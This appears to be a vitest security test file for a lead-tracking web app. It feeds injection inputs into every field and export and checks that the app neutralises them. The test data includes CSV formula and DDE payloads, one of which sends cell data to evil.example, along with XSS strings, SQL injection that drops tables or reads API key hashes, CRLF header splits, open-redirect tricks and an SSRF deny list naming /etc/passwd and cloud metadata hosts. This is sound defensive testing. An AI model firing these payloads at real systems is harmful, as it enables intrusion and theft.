import { csvParseRows, dsvFormat } from 'd3-dsv';
import { beforeEach, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { createApi } from '../../src/api.ts';
import { queryEntities } from '../../src/domain/segments/fields.ts';
import { maxColumns } from '../../src/domain/segments/query.ts';
import { presets } from '../../src/domain/reports/presets.ts';
import { runJobs } from '../../src/jobs/run-jobs.ts';
import type { Mail } from '../../src/services/deliveries/send-mail.ts';
import { Visitor } from '../support/browser-like.ts';
import { dumpDatabase, rowsWritten } from '../support/dump-database.ts';
import { adminKey, createTestApp } from '../support/test-app.ts';
import type { TestApp } from '../support/test-app.ts';

/**
 * What somebody sends, and every place where it is read as more than text: SQL, HTML, spreadsheets, headers, redirects, mail,
 * chats, addresses that Kilde itself asks, and parsers. Cases as in OWASP's cheat sheets and Web Security Testing Guide.
 */

let kilde: TestApp;
let mails: Mail[];
let posted: Array<{ url: string; headers: Headers; body: string; redirect: string }>;
let answer: () => Response;

beforeEach(async () => {
  mails = [];
  posted = [];
  answer = () => new Response(null, { status: 204 });
  kilde = await createTestApp({
    env: { KILDE_DEMO: '1' },
    fetch: async (input, init) => {
      const request = new Request(input, init);
      const { url, headers, redirect } = request;
      posted.push({ url, headers, redirect, body: await request.text() });
      return answer();
    },
  });
  kilde.deps.sendMail = async (mail) => void mails.push(mail);
  await kilde.sql("INSERT INTO form (key, name, site_id, created_at) VALUES ('demo', 'Demo', 1, 0)");
});

const tick = () => runJobs({ deps: kilde.deps, now: kilde.deps.clock() });
const key = { authorization: `Bearer ${adminKey}` };
const get = async (path: string, headers: Record<string, string> = {}) =>
  kilde.request(`/api/v1${path}`, { headers: { ...key, ...headers } });
const made = async (path: string, body: unknown, method = 'POST') => {
  const { status, body: answered } = await kilde.api(method, path, body);
  expect([path, status, status < 300 ? '' : answered]).toEqual([path, status, '']);
  return answered;
};

/** A text wherever a visitor, a system or one of the installation's people can put one. */
async function world(text: string): Promise<void> {
  const page = new URL('https://www.example.com/');
  for (const name of ['source', 'medium', 'campaign', 'term', 'content', 'id'])
    page.searchParams.set(`utm_${name}`, text);
  page.pathname = `/${text}`;
  const visitor = new Visitor(kilde);
  await visitor.arrive(page.href);
  const fields = { name: text, phone: text, title: text, company: text, how_did_you_hear: text, message: text };
  await kilde.sql(`UPDATE form SET name = ?, notify = '["salg@firma.no"]'`, [text]);
  await visitor.send('demo', { email: 'kari@firma.no', [text.slice(0, 100)]: text, ...fields });
  const owner = await made('/owners', { name: text });
  const category = await made('/categories', { name: text, group: 'Customer' });
  await made('/lead-statuses', { name: text });
  const [company] = (await kilde.api('GET', '/companies')).body.items;
  await made(`/companies/${company.id}`, { ownerId: owner.id, categoryId: category.id, name: text }, 'PATCH');
  const [person] = (await kilde.api('GET', '/people')).body.items;
  await made(`/people/${person.id}`, { ownerId: owner.id, leadStatus: text.trim(), title: text }, 'PATCH');
  await made(
    '/deals',
    {
      items: [
        {
          externalId: text.slice(0, 100),
          name: text,
          email: 'kari@firma.no',
          amount: 10,
          currency: 'NOK',
          status: 'won',
          closedAt: '2026-09-01',
        },
      ],
    },
    'PUT',
  );
  await kilde.sql('UPDATE site SET name = ?', [text]);
}

/** Everything that is answered as CSV: the path or, with a body, what is sent. */
async function csvFiles(): Promise<Array<[what: string, text: string]>> {
  const { body: declared } = await kilde.api('GET', '/fields');
  const files: Array<[string, string]> = [];
  const take = async (what: string, response: Response) => {
    expect([what, response.status, response.headers.get('content-type')]).toEqual([
      what,
      200,
      'text/csv; charset=utf-8',
    ]);
    files.push([what, await response.text()]);
  };
  const post = async (path: string, body: unknown) =>
    kilde.request(`/api/v1${path}`, {
      method: 'POST',
      headers: { ...key, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
  for (const entity of queryEntities) {
    const fields: Array<{ entity: string; name: string }> = declared.items;
    const all = fields.filter((one) => one.entity === entity && one.name !== 'selection').map(({ name }) => name);
    for (let from = 0; from < all.length; from += maxColumns) {
      const columns = all.slice(from, from + maxColumns);
      const body = { entity, format: 'csv', columns };
      await take(`POST /segments/query ${entity}`, await post('/segments/query', body));
      if (entity !== 'person' && entity !== 'company') continue;
      const { id } = await made('/selections', { name: `S${from}`, entity, kind: 'dynamic', where: { all: [] } });
      const query = new URLSearchParams({ format: 'csv', columns: columns.join(',') });
      await take(`GET /selections/:id/members ${entity}`, await get(`/selections/${id}/members?${query}`));
    }
  }
  const dimensions = ['source', 'medium', 'campaign', 'term', 'content', 'landingPage', 'form', 'owner', 'company'];
  for (const dimension of [...dimensions, 'category', 'leadStatus']) {
    const query = { measures: ['leads'], dimensions: [dimension] };
    await take(`POST /reports/query ${dimension}`, await post('/reports/query', { ...query, format: 'csv' }));
    const address = `/reports/query?measures=leads&dimensions=${dimension}&format=csv`;
    await take(`GET /reports/query ${dimension}`, await get(address));
  }
  for (const { id } of presets) {
    await take(`GET /reports/:id ${id}`, await get(`/reports/${id}?from=2026-01-01&to=2026-12-31&format=csv`));
  }
  const query = { measures: ['leads', 'revenue'], dimensions: ['source', 'campaign', 'owner'] };
  const { id: reportId } = await made('/reports', { name: 'Mine', query });
  await take('GET /reports/:id saved', await get(`/reports/${reportId}`, { accept: 'text/csv' }));
  const targets = [{ kind: 'email', to: ['sjef@firma.no'] }];
  const schedule = await made('/schedules', { name: 'Weekly', reportId, cron: '0 8 * * 1', targets });
  const { id: runId } = await made(`/schedules/${schedule.id}/run`, undefined);
  await take('GET /runs/:id', await get(`/runs/${runId}?format=csv`));
  await tick();
  const attached = mails.flatMap(({ attachments }) => attachments ?? []);
  expect(attached).toHaveLength(1);
  const bytes = Uint8Array.from(atob(attached[0]!.content), (char) => char.charCodeAt(0));
  files.push(['the file of a mail', new TextDecoder().decode(bytes)]);
  return files;
}

describe('a spreadsheet', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '+1+cmd|/C calc!A0',
    '-2+3+cmd|/C calc!A0',
    '@SUM(1+1)*cmd|/C calc!A0',
    ' =1+1',
    '＝1+1',
    // Where the list separator is a semicolon, as in Norway, a cell may begin in the middle of another.
    'a;=1+1',
    'a" ;@SUM(1)',
    'a,=1+1',
    '"=1+1',
  ])('takes %j for no formula, in any file', async (text) => {
    await world(text);
    const files = await csvFiles();
    expect(
      files.some(
        ([, csv]) => csv.includes('1+1') || csv.includes('SUM') || csv.includes('calc') || csv.includes('HYPERLINK'),
      ),
    ).toBe(true);
    for (const [what, csv] of files) {
      const cells = [csvParseRows(csv), dsvFormat(';').parseRows(csv)]
        .flat(2)
        .map((cell) => cell.replace('\uFEFF', ''));
      const formulas = cells.filter(
        (cell) => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell),
      );
      expect([what, formulas]).toEqual([what, []]);
    }
  });

  it('is given by no operation that is not among these', () => {
    const { operations } = createApi(kilde.deps);
    const withCsv = operations.filter(({ query, body }) =>
      [query, body].some(
        (schema) =>
          schema && JSON.stringify(z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' })).includes('"csv"'),
      ),
    );
    expect(withCsv.map(({ method, path }) => `${method.toUpperCase()} ${path}`).toSorted()).toEqual([
      'GET /reports/:id',
      'GET /reports/query',
      'GET /runs/:id',
      'POST /reports/query',
      'POST /segments/query',
    ]);
  });
});

/** What a page holds besides text: its elements, and attributes that do something. */
async function activeParts(html: string): Promise<string[]> {
  const found: string[] = [];
  const allowed = new Set(
    'html head meta title style body main h1 h2 p a ol ul li b small span div table thead tbody tr th td form label input button aside section time dl dt dd svg path code pre strong em br'.split(
      ' ',
    ),
  );
  const rewriter = new HTMLRewriter().on('*', {
    element({ tagName, attributes }) {
      const given = [...(attributes as unknown as Iterable<[string, string]>)];
      const isScript = tagName === 'script' && given.every(([name, value]) => name !== 'src' || value === '/k.js');
      if (!allowed.has(tagName) && !isScript) found.push(tagName);
      for (const [name, value] of given) {
        const leads = /^(href|src|action|formaction|xlink:href)$/.test(name);
        if (name.startsWith('on') || (leads && !/^(https?:\/\/|\/(?!\/))/.test(value)))
          found.push(`${tagName} ${name}=${value}`);
      }
    },
  });
  await rewriter.transform(new Response(html)).text();
  return found;
}

describe('a page or a mail', () => {
  const scripts = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    `'><svg/onload=alert(1)>`,
    '</title></style></textarea><script>alert(1)</script>',
    '" autofocus onfocus=alert(1) x="',
    'javascript:alert(1)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ];

  it.each(scripts)('runs nothing of %j, and shows it', async (text) => {
    await world(text);
    await made('/aliases', { field: 'source', values: ['other'], canonical: text.toLowerCase(), label: text }).catch(
      () => {},
    );
    const query = { measures: ['leads'], dimensions: ['source', 'company', 'owner', 'form'] };
    const { id: reportId } = await made('/reports', { name: text, query });
    const targets = [{ kind: 'email', to: ['sjef@firma.no'] }];
    const schedule = await made('/schedules', { name: text, reportId, cron: '0 8 * * 1', targets });
    await made(`/schedules/${schedule.id}/run`, undefined);
    await tick();
    expect(mails).toHaveLength(2);
    const preview = await made(`/schedules/${schedule.id}/run`, { dryRun: true });
    const visitor = new Visitor(kilde);
    await visitor.arrive(`https://www.example.com/?utm_source=${encodeURIComponent(text)}`);
    const browse = async (path: string, init: RequestInit = {}) =>
      (
        await kilde.request(path, {
          ...init,
          headers: {
            accept: 'text/html',
            cookie: `kilde_journey=${visitor.cookie}`,
            ...(init.headers as Record<string, string>),
          },
        })
      ).text();
    const pages: Array<[string, string, shows: boolean]> = [
      ...mails.map(({ subject, html }): [string, string, boolean] => [subject, html, true]),
      ['preview', preview.html, true],
      ['demo', await browse('/demo'), true],
      ['landing', await browse(`/demo/landing?utm_source=${encodeURIComponent(text)}`), false],
      ['thanks', await browse(`/f/${encodeURIComponent(text)}/thanks`), false],
      [
        'problem',
        await browse('/f/demo', {
          method: 'POST',
          headers: {
            'content-type': `application/x-www-form-urlencoded; charset=${text}`,
            referer: `https://a.no/${text}`,
          },
          body: 'a=b',
        }),
        false,
      ],
      [
        'problem with a place to go back to',
        await browse('/f/demo', {
          method: 'POST',
          headers: { 'content-type': 'application/json', referer: text },
          body: text,
        }),
        false,
      ],
    ];
    const escaped = text
      .replaceAll('&', '&amp;')
      .replaceAll('<', '&lt;')
      .replaceAll('>', '&gt;')
      .replaceAll('"', '&quot;')
      .replaceAll("'", '&#39;');
    for (const [what, html, shows] of pages) {
      expect([what, await activeParts(html)]).toEqual([what, []]);
      if (shows) expect([what, html.toLowerCase().includes(escaped.toLowerCase())]).toEqual([what, true]);
    }
  });

  it('as an answer of the API is no page, whatever it holds', async () => {
    await world(scripts[0]!);
    for (const path of [
      '/people',
      '/companies',
      '/submissions',
      '/deals',
      '/owners',
      `/explain?u=${scripts[0]}`,
      '/no-such',
    ]) {
      const { headers } = await get(path, { accept: 'text/html' });
      expect([path, headers.get('content-type'), headers.get('x-content-type-options')]).toEqual([
        path,
        expect.stringMatching(/^application\/(problem\+)?json/),
        'nosniff',
      ]);
    }
    const { id } = await made('/links', { page: 'https://a.no/', source: scripts[1], medium: 'x' });
    const image = await get(`/links/${id}/qr.svg`);
    expect(await activeParts(await image.text()).then((found) => found.filter((one) => one !== 'rect'))).toEqual([]);
  });
});

describe('SQL', () => {
  const texts = [
    "' OR '1'='1",
    "'; DROP TABLE person; --",
    '" OR ""="',
    "x') UNION SELECT hash, name, 1, 1 FROM api_key --",
    "\\' OR 1=1 --",
    '%',
    '_',
    "' || (SELECT prefix FROM api_key) || '",
    '*/ OR 1=1 /*',
    "'; ATTACH DATABASE 'x.db' AS x; --",
    '\u02bc OR 1=1',
  ];

  it.each(texts.slice(0, 4))('finds nobody by %j, and nothing is written', async (text) => {
    await kilde.submit('demo', {
      email: 'kari@firma.no',
      name: 'Kari Nordmann',
      _page: 'https://a.no/?utm_source=linkedin',
    });
    await made('/api-keys', { name: 'hidden', scopes: ['read'] });
    const [{ prefix, hash }] = (await kilde.sql('SELECT prefix, hash FROM api_key')) as [Record<string, string>];
    const before = await dumpDatabase(kilde);
    const { operations } = createApi(kilde.deps);
    const value = encodeURIComponent(text);
    const found: string[] = [];
    const read = async (what: string, response: Response) => {
      const answered = await response.text();
      expect([what, response.status < 500, answered.includes(hash!), answered.includes(prefix!)]).toEqual([
        what,
        true,
        false,
        false,
      ]);
      if (response.status === 200 && /Nordmann|kari@firma/.test(answered)) found.push(what);
    };
    // In every parameter of every operation that reads.
    for (const { method, path, query } of operations) {
      if (method !== 'get') continue;
      const at = path.replaceAll(/:\w+/g, value);
      if (at !== path) await read(path, await get(at));
      for (const name of Object.keys(query?.shape ?? {}))
        await read(`${path}?${name}`, await get(`${at}?${name}=${value}`));
    }
    for (const op of ['equals', 'isExactly', 'startsWith', 'endsWith', 'contains', 'oneOf', 'inSelection']) {
      for (const field of ['email', 'lastName', 'firstTouch.source', text]) {
        const where = { field, op, value: op === 'oneOf' ? [text] : text };
        const response = await kilde.request('/api/v1/segments/query', {
          method: 'POST',
          headers: { ...key, 'content-type': 'application/json' },
          body: JSON.stringify({ entity: 'person', where }),
        });
        await read(`${field} ${op}`, response);
      }
    }
    for (const body of [
      { entity: 'person', sort: [{ field: text, direction: 'asc' }] },
      { entity: 'person', sort: [{ field: 'email', direction: text }] },
      { entity: 'person', columns: [text] },
      { entity: text },
      { entity: 'person', cursor: text },
      { entity: 'person', timeZone: text },
    ]) {
      const { status } = await kilde.api('POST', '/segments/query', body);
      expect([body, status]).toEqual([body, 422]);
    }
    expect(found).toEqual([]);
    expect(rowsWritten(before, await dumpDatabase(kilde))).toEqual({});
  });

  it.each(texts)('keeps %j as the text it is', async (text) => {
    await kilde.submit('demo', {
      email: 'kari@firma.no',
      name: text,
      company: text,
      title: text,
      [text]: text,
      _id: text,
    });
    const { body } = await kilde.api('GET', '/people?email=kari@firma.no');
    const [sent] = (await kilde.api('GET', '/submissions')).body.items;
    expect(sent.fields[text]).toBe(text);
    const { firstName, lastName } = body.items[0];
    expect([firstName, lastName].filter(Boolean).join(' ')).toBe(text.trim().replaceAll(/\s+/g, ' '));
    // A company's name without a letter or digit is none: a job title may be any text.
    const equal = { entity: 'person', where: { field: 'title', op: 'isExactly', value: text }, count: true };
    const answered = await kilde.api('POST', '/segments/query', equal);
    expect([answered.status, answered.body.count]).toEqual([200, 1]);
  });
});

const breaks = ['a\r\nSet-Cookie: x=y', 'a\nb: c', 'a\u2028b', 'a\u0085b', '"; filename="x.exe', 'å'.repeat(40)];

describe('a header', () => {
  it.each(breaks)('is not begun by %j', async (text) => {
    await kilde.submit('demo', {
      email: 'kari@firma.no',
      _page: `https://a.no/?utm_source=${encodeURIComponent(text)}`,
    });
    const encoded = encodeURIComponent(text);
    const { id: reportId } = await made('/reports', { name: 'x', query: { measures: ['leads'] } });
    await kilde.sql('UPDATE saved_report SET name = ?', [text]);
    const { id: scheduleId } = await made('/schedules', { name: 'x', reportId, cron: '0 8 * * 1', targets: [] });
    const { id: runId } = await made(`/schedules/${scheduleId}/run`, undefined);
    const { id } = await made('/selections', { name: 'x', entity: 'person', kind: 'dynamic', where: { all: [] } });
    await kilde.sql('UPDATE selection SET name = ?', [text]);
    const answers: Array<[string, Response]> = [];
    for (const path of [`/selections/${id}/members?format=csv`, `/selections/${id}/members?format=ndjson`]) {
      answers.push([path, await get(path)]);
    }
    for (const path of ['/people/1/export', `/reports/${reportId}?format=csv`, `/runs/${runId}?format=csv`]) {
      answers.push([path, await get(path)]);
    }
    for (const [path, { status, headers }] of answers) {
      expect([path, status, headers.get('content-disposition')]).toEqual([
        path,
        200,
        expect.stringMatching(/^attachment; filename="[a-z0-9-]+\.(csv|ndjson|json)"$/),
      ]);
    }
    const sent = async (headers: Record<string, string>, fields: Record<string, string>, form = 'demo') =>
      kilde.request(`/f/${form}`, {
        method: 'POST',
        headers: { accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded', ...headers },
        body: new URLSearchParams({ email: 'ola@firma.no', ...fields }).toString(),
      });
    answers.length = 0;
    const site = { referer: 'https://www.example.com/form' };
    for (const next of [`https://www.example.com/${text}`, `/${text}`, text, `?${text}`]) {
      answers.push([`_next ${next}`, await sent(site, { _next: next })]);
    }
    answers.push(['form', await sent({}, {}, encoded)], ['slug', await kilde.request(`/l/${encoded}`)]);
    answers.push(['touch', await kilde.request(`/t?site=${encoded}&u=${encoded}&r=${encoded}&j=${encoded}`)]);
    await made('/links', { page: `https://a.no/?q=${encoded}`, source: text.slice(0, 60), medium: 'y', slug: 'go' });
    answers.push(['link', await kilde.request(`/l/go?x=${encoded}`)]);
    for (const [what, { status, headers }] of answers) {
      expect([what, status < 500]).toEqual([what, true]);
      for (const [, value] of headers) expect([what, value]).toEqual([what, expect.stringMatching(/^[\t\x20-\x7e]*$/)]);
      expect([what, headers.get('set-cookie') ?? '']).toEqual([what, expect.not.stringContaining('x=y')]);
    }
  });

  it.each(breaks)('of a mail is not begun by %j', async (text) => {
    await kilde.sql(`UPDATE form SET name = ?, notify = '["salg@firma.no"]'`, [text]);
    await kilde.submit('demo', { email: 'kari@firma.no', _subject: text, _replyto: text, subject: text });
    const targets = [
      { kind: 'email', to: ['sjef@firma.no'] },
      { kind: 'webhook', url: 'https://hooks.example.com/' },
    ];
    const reportId = 'top-paths';
    const { id } = await made('/schedules', { name: 'x', reportId, cron: '0 8 * * 1', targets });
    await kilde.sql('UPDATE schedule SET name = ?', [text]);
    await made(`/schedules/${id}/run`, undefined);
    await tick();
    expect(mails).toHaveLength(2);
    for (const { to, subject, attachments = [] } of mails) {
      expect(to.join()).toMatch(/^(salg|sjef)@firma\.no$/);
      expect(subject).not.toMatch(/[\r\n\u0085\u2028]/);
      for (const { filename, type } of attachments) {
        expect([filename, type]).toEqual([expect.stringMatching(/^[a-z0-9-]+\.csv$/), 'text/csv; charset=utf-8']);
      }
    }
    expect(posted.map(({ headers }) => [...headers.keys()].toSorted())).toEqual([
      ['content-type', 'user-agent', 'webhook-id', 'webhook-signature', 'webhook-timestamp'],
    ]);
  });

  it.each([
    'kari@firma.no\r\nBcc: alle@firma.no',
    'kari@firma.no, alle@firma.no',
    'kari@firma.no;alle@firma.no',
    'Kari <kari@firma.no>',
    '<kari@firma.no>,<alle@firma.no>',
    'kari@firma.no\0',
    '"kari\r\n"@firma.no',
    '"alle@firma.no,"@firma.no',
    'kari@firma.no%0aBcc:x@y.no',
    'kari@firma.no?bcc=alle@firma.no',
  ])('To of a mail is one address or none where %j is given', async (address) => {
    const targets = [{ kind: 'email', to: [address] }];
    const schedule = { name: 'x', reportId: 'top-paths', cron: '0 8 * * 1', targets };
    await kilde.api('POST', '/schedules', schedule);
    await kilde.api('POST', '/forms', { name: 'x', notify: targets });
    await kilde.submit('demo', { email: address });
    const kept = await kilde.sql(
      `SELECT email AS text FROM person UNION ALL SELECT to_.value FROM form, json_each(notify) target, json_each(target.value, '$.to') to_
        UNION ALL SELECT to_.value FROM schedule, json_each(targets) target, json_each(target.value, '$.to') to_`,
    );
    for (const { text } of kept) expect(text).toMatch(/^(kari|alle)@firma\.no$/);
  });
});

describe('a redirect', () => {
  const own = 'https://www.example.com';
  const send = async (next: string) => {
    const { status, headers } = await kilde.request('/f/demo', {
      method: 'POST',
      headers: { accept: 'text/html', referer: `${own}/form`, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ email: 'kari@firma.no', m: crypto.randomUUID(), _next: next }).toString(),
    });
    expect(status).toBe(303);
    return headers.get('location')!;
  };

  const elsewhere = [
    'https://evil.example',
    'HTTPS://EVIL.EXAMPLE/',
    '//evil.example',
    '///evil.example',
    '////evil.example/x',
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
    ' //evil.example',
    'https:evil.example',
    'https:/evil.example',
    'https:///evil.example',
    'https:\\\\evil.example',
    'https://www.example.com@evil.example/',
    'https://www.example.com:pw@evil.example/',
    'https://evil.example#www.example.com',
    'https://evil.example?www.example.com',
    'https://evil.example\\.www.example.com',
    'https://www.example.com.evil.example/',
    'https://evilwww.example.com/',
    'https://www.example.com%2eevil.example/',
    'https://www.example.com。evil.example/',
    'https://ｅｖｉｌ.example/',
    'ftp://www.example.com/',
    'javascript:alert(1)//https://www.example.com',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'blob:https://www.example.com/x',
    'view-source:https://www.example.com',
  ];

  it('after a form leads to the page’s own host, whatever it is asked', async () => {
    for (const next of elsewhere) {
      // As a browser reads it.
      const { origin } = new URL(await send(next), 'https://edge.example.com/f/demo');
      expect([next, [own, 'https://edge.example.com'].includes(origin)]).toEqual([next, true]);
    }
  });

  it('after a form fits in a header', async () => {
    for (const next of [`/${'å'.repeat(5_000)}`, `${own}/?${'a'.repeat(100_000)}`]) {
      expect(await send(next)).toBe('/f/demo/thanks');
    }
    expect(await send(`/${'a'.repeat(1_000)}`)).toBe(`${own}/${'a'.repeat(1_000)}`);
  });

  it.each(['javascript:alert(1)', 'data:text/html,x', '//evil.example', 'ftp://a.no/', 'https://', ' ', 'x'])(
    'is not kept where it is %j',
    async (address) => {
      expect((await kilde.api('POST', '/forms', { name: 'x', redirectUrl: address })).status).toBe(422);
      expect((await kilde.api('POST', '/links', { page: address, source: 'a', medium: 'b' })).status).toBe(422);
    },
  );

  it('of a link is where the link leads, whatever the visitor adds', async () => {
    await made('/links', { page: 'https://a.no/x', source: 'a', medium: 'b', slug: 'go' });
    for (const more of ['', '?url=https://evil.example', '?next=//evil.example', '?page=https://evil.example&slug=x']) {
      const { headers } = await kilde.request(`/l/go${more}`, { headers: { referer: 'https://evil.example/' } });
      expect(headers.get('location')).toMatch(
        /^https:\/\/a\.no\/x\?utm_source=a&utm_medium=b&kilde_followed=[a-z\d]+$/,
      );
    }
  });
});

describe('a chat', () => {
  it.each([
    '<!channel>',
    '<https://evil.example|Log in>',
    '[Log in](https://evil.example)',
    '@everyone',
    '```\n<!here>',
    '<at>all</at>',
  ])('reads %j as text', async (text) => {
    await kilde.submit('demo', {
      email: 'kari@firma.no',
      _page: `https://a.no/?utm_source=${encodeURIComponent(text)}`,
    });
    const formats = ['slack', 'teams', 'discord', 'googleChat'];
    const { id } = await made('/schedules', {
      name: `Leads ${text.replaceAll('\n', '')}`,
      reportId: 'new-leads-by-lead-creation-source',
      cron: '0 8 * * 1',
      targets: formats.map((format) => ({ kind: 'chat', url: `https://chat.example.com/${format}`, format })),
    });
    await made(`/schedules/${id}/run`, undefined);
    await tick();
    const of = (format: string) => JSON.parse(posted.find(({ url }) => url.endsWith(format))!.body);
    for (const format of ['slack', 'googleChat']) {
      const { text: sent } = of(format) as { text: string };
      // What is left of angle brackets is escaped, and the rows are in one block of code.
      expect([format, sent]).toEqual([format, expect.not.stringMatching(/[<>]/)]);
      expect([format, sent.split('```').length]).toEqual([format, 3]);
    }
    const { content, allowed_mentions: mentions } = of('discord');
    expect([mentions, content.split('```').length]).toEqual([{ parse: [] }, 3]);
    expect(content.split('```')[0]).not.toMatch(/\]\(|@everyone|<[@#!]/);
    // Of Teams' elements this one reads no Markdown.
    const { body } = of('teams').attachments[0].content;
    expect(body.map(({ type }: { type: string }) => type)).toEqual(body.map(() => 'RichTextBlock'));
    expect(JSON.stringify(body)).toContain(JSON.stringify(text.replaceAll('\n', '').slice(0, 30)).slice(1, -1));
  });
});

describe('an address that Kilde is to ask', () => {
  const forbidden = [
    'http://hooks.example.com/',
    'ftp://hooks.example.com/',
    'file:///etc/passwd',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'https://user:pw@hooks.example.com/',
    'https://localhost/',
    'https://LOCALHOST./',
    'https://sub.localhost/',
    'https://intranet/',
    'https://db.internal/',
    'https://printer.local/',
    'https://metadata.google.internal/computeMetadata/v1/',
    'https://127.0.0.1/',
    'https://127.1/',
    'https://2130706433/',
    'https://0x7f000001/',
    'https://0x7f.0.0.1/',
    'https://0177.0.0.1/',
    'https://017700000001/',
    'https://127.0.0.1./',
    'https://%31%32%37.0.0.1/',
    'https://１２７.0.0.1/',
    'https://①②⑦.0.0.1/',
    'https://0.0.0.0/',
    'https://0/',
    'https://10.0.0.8/',
    'https://172.16.0.1/',
    'https://172.31.255.255/',
    'https://192.168.0.1/',
    'https://100.64.0.1/',
    'https://169.254.169.254/latest/meta-data/',
    'https://2852039166/',
    'https://192.0.0.192/',
    'https://198.18.0.1/',
    'https://224.0.0.1/',
    'https://255.255.255.255/',
    'https://[::]/',
    'https://[::1]/',
    'https://[0:0:0:0:0:0:0:1]/',
    'https://[::ffff:127.0.0.1]/',
    'https://[::ffff:7f00:1]/',
    'https://[::ffff:0:127.0.0.1]/',
    'https://[::127.0.0.1]/',
    'https://[64:ff9b::127.0.0.1]/',
    'https://[64:ff9b:1::a00:8]/',
    'https://[2002:7f00:1::]/',
    'https://[2001::1]/',
    'https://[2001:db8::1]/',
    'https://[fc00::1]/',
    'https://[fd12:3456::1]/',
    'https://[fe80::1]/',
    'https://[fec0::1]/',
    'https://[ff02::1]/',
    'https://[fd00:ec2::254]/latest/meta-data/',
  ];

  it.each(['post', 'patch', 'store'])('is refused and not asked where it leads inside: %s', async (how) => {
    const { id } = await made('/webhooks', {
      name: 'x',
      url: 'https://hooks.example.com/',
      events: ['person.created'],
    });
    for (const url of forbidden) {
      const refused = async (method: string, path: string, body: unknown, location: string) => {
        const answered = await kilde.api(method, path, body);
        expect([url, answered.status, answered.body.errors?.[0]?.location]).toEqual([url, 422, location]);
      };
      if (how === 'post') {
        await refused('POST', '/webhooks', { name: 'x', url, events: ['person.created'] }, 'body.url');
        for (const target of [
          { kind: 'webhook', url },
          { kind: 'chat', format: 'slack', url },
        ]) {
          const schedule = { name: 'x', reportId: 'top-paths', cron: '0 8 * * 1', targets: [target] };
          await refused('POST', '/schedules', schedule, 'body.targets[0].url');
        }
      } else if (how === 'patch') {
        await refused('PATCH', `/webhooks/${id}`, { url }, 'body.url');
      } else {
        // However it came there.
        await kilde.sql('UPDATE webhook SET url = ?', [url]);
        const tested = await kilde.api('POST', `/webhooks/${id}/test`);
        expect([url, tested.body.delivered]).toEqual([url, false]);
      }
    }
    await kilde.submit('demo', { email: 'kari@firma.no' });
    if (how === 'store') await tick();
    expect(posted).toEqual([]);
  });

  it.each([301, 302, 303, 307, 308])('is not left for where it leads by %i', async (status) => {
    answer = () => new Response(null, { status, headers: { location: 'https://169.254.169.254/' } });
    const targets = [
      { kind: 'webhook', url: 'https://hooks.example.com/a' },
      { kind: 'chat', format: 'slack', url: 'https://hooks.example.com/b' },
    ];
    await made('/webhooks', { name: 'x', url: 'https://hooks.example.com/', events: ['person.created'] });
    await kilde.submit('demo', { email: 'kari@firma.no' });
    const { id } = await made('/schedules', { name: 'x', reportId: 'top-paths', cron: '0 8 * * 1', targets });
    await made(`/schedules/${id}/run`, undefined);
    await tick();
    expect(posted.map(({ url, redirect }) => [new URL(url).hostname, redirect])).toEqual(
      Array.from({ length: 3 }, () => ['hooks.example.com', 'manual']),
    );
    const { body } = await kilde.api('GET', '/deliveries');
    expect(body.items.map((one: { lastError: string }) => one.lastError)).toEqual(
      Array.from({ length: 2 }, () => `The receiver answered ${status}.`),
    );
  });

  it('is told nothing of what a receiver answers', async () => {
    answer = () => new Response('root:x:0:0', { status: 500, headers: { 'x-secret': 'root:x' } });
    const { id } = await made('/webhooks', {
      name: 'x',
      url: 'https://hooks.example.com/',
      events: ['person.created'],
    });
    const tested = await kilde.api('POST', `/webhooks/${id}/test`);
    expect(tested.body).toEqual({ delivered: false, error: 'The receiver answered 500.' });
  });
});

describe('a parser', () => {
  const deep = (open: string, close: string, middle = '1', depth = 20_000) =>
    open.repeat(depth) + middle + close.repeat(depth);
  const shapes: Array<[string, string]> = [
    ['arrays in arrays', deep('[', ']')],
    ['objects in objects', deep('{"a":', '}')],
    ['conditions in conditions', deep('{"not":', '}', '{"all":[]}')],
    ['half a surrogate pair deep inside', deep('[', ']', '"\\ud800"')],
    [
      'what is no text and says it is',
      '{"op":{"toString":1},"value":{"valueOf":1,"toString":1},"toString":1,"length":-1}',
    ],
    ['a prototype', '{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'],
    ['a long list', `[${'{},'.repeat(20_000)}{}]`],
    ['a long number', `1${'0'.repeat(100_000)}`],
    ['a long text', JSON.stringify('a'.repeat(200_000))],
  ];

  it.each(shapes)('takes %s in any place of any body, or refuses them', { timeout: 60_000 }, async (_, value) => {
    // So that what is changed is there, and the input is read to its end.
    await world('x');
    const rule = { kind: 'dynamic', where: { all: [] } };
    await made('/selections', { name: 'x', entity: 'person', ...rule });
    await made('/schedules', { name: 'x', reportId: 'top-paths', cron: '0 8 * * 1', targets: [] });
    await made('/webhooks', { name: 'x', url: 'https://hooks.example.com/', events: ['deal.won'] });
    const { id: reportId } = await made('/reports', { name: 'x', query: { measures: ['leads'] } });
    const { operations } = createApi(kilde.deps);
    for (const { method, path, body } of operations) {
      if (!body) continue;
      const shape = z.toJSONSchema(body, { io: 'input', unrepresentable: 'any' }) as { properties?: object };
      const names = Object.keys(shape.properties ?? {});
      const bodies = [value, ...names.map((name) => `{${JSON.stringify(name)}:${value}}`), `{"items":[${value}]}`];
      for (const sent of bodies) {
        const id = path.startsWith('/reports') ? reportId : '1';
        const response = await kilde.request(`/api/v1${path.replaceAll(/:\w+/g, id)}`, {
          method: method.toUpperCase(),
          headers: { ...key, 'content-type': 'application/json' },
          body: sent,
        });
        const text = await response.text();
        const what = `${method} ${path} ${sent.slice(0, 60)}`;
        expect([what, response.status < 500, text.length < 20_000]).toEqual([what, true, true]);
      }
    }
    expect(({} as { admin?: boolean }).admin).toBeUndefined();
  });

  it.each(shapes)('takes %s as a field of a form', async (_, value) => {
    const response = await kilde.request('/f/demo', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
